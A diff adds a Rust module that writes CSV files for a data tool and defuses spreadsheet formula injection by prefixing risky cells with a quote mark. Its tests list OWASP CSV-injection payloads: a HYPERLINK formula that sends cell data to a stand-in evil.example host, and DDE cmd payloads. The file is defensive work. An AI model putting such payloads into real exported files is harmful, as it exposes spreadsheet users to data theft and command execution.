@@ -1,0 +1,249 @@
+//! The one way sipas writes a CSV file.
+//!
+//! Every CSV that sipas writes (ingest's quarantine and repeat tables, clean's quarantine and
+//! `clean-by-cell.csv`, every result table of `aggregate`) reaches the disk through [`write()`] or
+//! [`write_with`]. On the way each field is checked with [`crate::csv_safe::cell`]: a text cell
+//! that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return and is not a plain number) gets a leading `'`; numbers (`-3.5`, `+2`) are
+//! written unchanged. The check works on the CSV bytes themselves, so it holds whatever built the
+//! text: a `csv::Writer`, a `format!` or a quoted field.
+//!
+//! With [`set_excel_bom`] (the `--excel-csv` option, job key `excel_csv`) every CSV starts with a
+//! UTF-8 byte order mark, which Excel needs to read Vietnamese text as UTF-8. Off by default.
+//! Unit codes are written as text (`05569`); a reader should read them as strings (pandas:
+//! `dtype={"unit_code": str}`), and the Parquet twins of the result tables store them as `Utf8`.
+//!
+//! The file is written atomically (see [`crate::atomic`]).
+
+use std::borrow::Cow;
+use std::fs::File;
+use std::io::{self, BufWriter, Write};
+use std::path::Path;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+/// The UTF-8 byte order mark written first with `--excel-csv`.
+pub const BOM: &[u8] = b"\xEF\xBB\xBF";
+
+static EXCEL_BOM: AtomicBool = AtomicBool::new(false);
+
+/// Whether the CSVs written from now on in this process start with a UTF-8 BOM (`--excel-csv`).
+pub fn set_excel_bom(on: bool) {
+    EXCEL_BOM.store(on, Ordering::Relaxed);
+}
+
+/// Whether CSVs are written with a UTF-8 BOM (see [`set_excel_bom`]).
+pub fn excel_bom() -> bool {
+    EXCEL_BOM.load(Ordering::Relaxed)
+}
+
+/// Writes the CSV text `csv` (whole records) to `path` atomically, every cell made inert for
+/// spreadsheets, with a BOM when [`excel_bom`] is on.
+///
+/// # Errors
+/// The I/O error of writing or renaming the file; `path` is then left as it was.
+pub fn write(path: &Path, csv: &[u8]) -> io::Result<()> {
+    write_with(path, |w| w.records(csv))
+}
+
+/// Writes a CSV to `path` atomically in pieces: `fill` hands whole records to
+/// [`CsvSink::records`], each made inert for spreadsheets on the way (see [`write()`]).
+///
+/// # Errors
+/// The error of `fill` or of writing the file; `path` is then left as it was.
+pub fn write_with<F>(path: &Path, fill: F) -> io::Result<()>
+where
+    F: FnOnce(&mut CsvSink<'_>) -> io::Result<()>,
+{
+    crate::atomic::write_with(path, |file| {
+        let mut sink = CsvSink {
+            out: BufWriter::with_capacity(1 << 20, file),
+        };
+        if excel_bom() {
+            sink.out.write_all(BOM)?;
+        }
+        fill(&mut sink)?;
+        sink.out.flush()
+    })
+}
+
+/// The open CSV file of [`write_with`].
+pub struct CsvSink<'a> {
+    out: BufWriter<&'a mut File>,
+}
+
+impl CsvSink<'_> {
+    /// Appends whole CSV records (each ending in a line break, the last one may not), every
+    /// cell made inert for spreadsheets.
+    ///
+    /// # Errors
+    /// The I/O error of writing.
+    pub fn records(&mut self, csv: &[u8]) -> io::Result<()> {
+        self.out.write_all(&neutralise(csv))
+    }
+}
+
+/// `csv` (comma-separated records, RFC 4180 quoting) with every cell that a spreadsheet would
+/// run as a formula prefixed by `'` (inside its quotes when it is quoted). Unchanged (borrowed)
+/// when no cell needs it.
+pub fn neutralise(csv: &[u8]) -> Cow<'_, [u8]> {
+    let mut out: Option<Vec<u8>> = None;
+    let mut copied = 0; // bytes of `csv` already copied into `out`
+    let mut i = 0;
+    let n = csv.len();
+    while i < n {
+        // A field starts at `i`.
+        let quoted = csv[i] == b'"';
+        let start = if quoted { i + 1 } else { i };
+        let mut j = start;
+        if quoted {
+            // Up to the closing quote ("" is an escaped quote).
+            while j < n {
+                if csv[j] == b'"' {
+                    if csv.get(j + 1) == Some(&b'"') {
+                        j += 2;
+                        continue;
+                    }
+                    break;
+                }
+                j += 1;
+            }
+        } else {
+            while j < n && !matches!(csv[j], b',' | b'\n' | b'\r') {
+                j += 1;
+            }
+        }
+        let content = &csv[start..j.min(n)];
+        if needs_quote_mark(content) {
+            let o = out.get_or_insert_with(|| Vec::with_capacity(n + 64));
+            o.extend_from_slice(&csv[copied..start]);
+            o.push(b'\'');
+            copied = start;
+        }
+        // Past the closing quote, to the delimiter or line end.
+        let mut k = if quoted { (j + 1).min(n) } else { j };
+        while k < n && !matches!(csv[k], b',' | b'\n' | b'\r') {
+            k += 1;
+        }
+        // Past the delimiter or line break; an empty field follows a trailing comma.
+        i = match csv.get(k) {
+            Some(b'\r') if csv.get(k + 1) == Some(&b'\n') => k + 2,
+            Some(_) => k + 1,
+            None => n,
+        };
+    }
+    match out {
+        None => Cow::Borrowed(csv),
+        Some(mut o) => {
+            o.extend_from_slice(&csv[copied..]);
+            Cow::Owned(o)
+        }
+    }
+}
+
+/// Whether a cell's text (as stored between the quotes) would run as a formula.
+fn needs_quote_mark(content: &[u8]) -> bool {
+    match content.first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => {
+            let text = String::from_utf8_lossy(content);
+            matches!(crate::csv_safe::cell(&text), Cow::Owned(_))
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The OWASP CSV-injection payloads (and variants seen in the wild).
+    const PAYLOADS: [&str; 10] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1,2",
+        "@A1",
+        "-",
+    ];
+
+    fn fields(bytes: &[u8]) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(bytes)
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect()
+    }
+
+    fn csv_of(rows: &[Vec<&str>]) -> Vec<u8> {
+        let mut w = csv::WriterBuilder::new()
+            .flexible(true)
+            .terminator(csv::Terminator::Any(b'\n'))
+            .from_writer(Vec::new());
+        for r in rows {
+            w.write_record(r).unwrap();
+        }
+        w.into_inner().unwrap()
+    }
+
+    #[test]
+    fn every_payload_in_every_position_gets_a_quote_mark_and_numbers_stay() {
+        for p in PAYLOADS {
+            let rows = vec![
+                vec!["code", "name", "value"],
+                vec![p, "-3.5", "x"],
+                vec!["05569", p, "+2"],
+                vec!["", "", p],
+                vec![p],
+            ];
+            let out = neutralise(&csv_of(&rows)).into_owned();
+            let want: Vec<Vec<String>> = rows
+                .iter()
+                .map(|r| {
+                    r.iter()
+                        .map(|f| {
+                            if *f == p {
+                                format!("'{p}")
+                            } else {
+                                (*f).to_string()
+                            }
+                        })
+                        .collect()
+                })
+                .collect();
+            assert_eq!(fields(&out), want, "{p:?}");
+            // Idempotent: a second pass changes nothing.
+            assert_eq!(neutralise(&out), out.as_slice(), "{p:?}");
+        }
+    }
+
+    #[test]
+    fn safe_text_is_borrowed_unchanged() {
+        let text =
+            "unit_code,sipas,lo\n05569,-0.250000,\"Phường \"\"A\"\", B\"\r\n,,\n-1e-3,+4,a=b";
+        let out = neutralise(text.as_bytes());
+        assert!(matches!(out, Cow::Borrowed(_)));
+        // A hand-written line without a final line break, quoted payload last.
+        let out = neutralise(b"a,\"=1+1\"");
+        assert_eq!(out.as_ref(), b"a,\"'=1+1\"");
+    }
+
+    #[test]
+    fn write_adds_the_bom_only_when_asked() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("t.csv");
+        write(&p, b"a,b\n=1,-2\n").unwrap();
+        assert_eq!(std::fs::read(&p).unwrap(), b"a,b\n'=1,-2\n");
+        set_excel_bom(true);
+        let written = write(&p, "tên\nXã Định Hóa\n".as_bytes());
+        set_excel_bom(false);
+        written.unwrap();
+        let bytes = std::fs::read(&p).unwrap();
+        assert_eq!(&bytes[..3], BOM);
+        assert_eq!(&bytes[3..], "tên\nXã Định Hóa\n".as_bytes());
+    }
+}
